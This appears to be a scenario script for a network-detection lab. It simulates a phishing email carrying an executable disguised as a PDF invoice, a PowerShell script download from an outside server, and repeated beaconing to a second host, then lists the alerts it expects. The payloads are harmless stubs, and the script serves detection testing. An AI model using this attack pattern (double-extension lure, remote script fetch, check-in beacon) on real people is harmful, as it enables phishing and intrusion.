# what: a mail brings a program that calls itself a PDF; the PC that opened it fetches more and calls home every five minutes
# real: exim, curl, nginx; the program is tools/stub's, nothing runs it
# packages: exim4-daemon-light nginx-light
TLS_HOSTS=
host MAILSV server 10; host EIGYO-NOTE windows
mail_server MAILSV "${ip_of[MAILSV]}" mail.office.example
outside 194.26.135.12 vps.example; web net 194.26.135.12 vps.example
outside 185.141.63.120 vps-63-120.hosting.example; web net 185.141.63.120 vps-63-120.hosting.example
ip -n net addr add 185.70.40.22/32 dev lo
"$T/stub" 3000 >$W/a.exe
{
	printf 'From: keiri@torihiki.example\r\nTo: soumu@office.example\r\nSubject: seikyusho\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nGo-kakunin kudasai.\r\n'
	printf -- '--b1\r\nContent-Type: application/pdf; name="seikyusho.pdf.exe"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="seikyusho.pdf.exe"\r\n\r\n'
	base64 -w 76 $W/a.exe | sed 's/$/\r/'
	printf -- '--b1--\r\n'
} >$W/mail.txt
get net --interface 185.70.40.22 --mail-from keiri@torihiki.example --mail-rcpt soumu@office.example -T $W/mail.txt "smtp://${ip_of[MAILSV]}"
printf '$n = "lab"\r\nfunction Hello { param($who) Write-Output "hello $who" }\r\nHello $n\r\n# this file does nothing\r\n' >$W/www/a.ps1
get EIGYO-NOTE -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4894' http://194.26.135.12/a.ps1
for ((i = 0; i < 36; i++)); do
	get EIGYO-NOTE -A "$UA_CHROME" http://185.141.63.120/api/ping
	pause 1
done
STRETCH=(--factor 300 --gap 500)
# malware_http and beacon belong to the alert of the script: one story of one device
alert mail_attachment please_look MAILSV
alert script_download act_now EIGYO-NOTE
